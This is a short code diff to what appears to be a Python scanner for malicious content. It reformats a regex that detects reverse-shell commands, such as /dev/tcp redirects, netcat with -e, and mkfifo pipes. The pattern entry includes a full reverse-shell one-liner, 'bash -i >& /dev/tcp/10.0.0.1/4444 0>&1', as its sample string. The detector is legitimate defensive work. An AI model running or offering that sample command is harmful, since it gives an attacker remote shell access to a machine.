@@ -88,7 +88,8 @@ _KINDS: dict[str, tuple[Pattern, ...]] = {
         ),
         _row(
             "shell_reverse",
-            r"(?i)(?:/dev/(?:tcp|udp)/[\w.\-]{1,80}/\d{1,5}|\bnc(?:at)? {1,3}[^\n|;&]{0,60}-[a-z]{0,3}e\s{1,3}\S{1,40}|mkfifo\s{1,3}/tmp/\S{1,40})",
+            r"(?i)(?:/dev/(?:tcp|udp)/[\w.\-]{1,80}/\d{1,5}|"
+            r"\bnc(?:at)? {1,3}[^\n|;&]{0,60}-[a-z]{0,3}e\s{1,3}\S{1,40}|mkfifo\s{1,3}/tmp/\S{1,40})",
             120,
             ("/dev/tcp/", "/dev/udp/", "nc ", "ncat ", "mkfifo"),
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
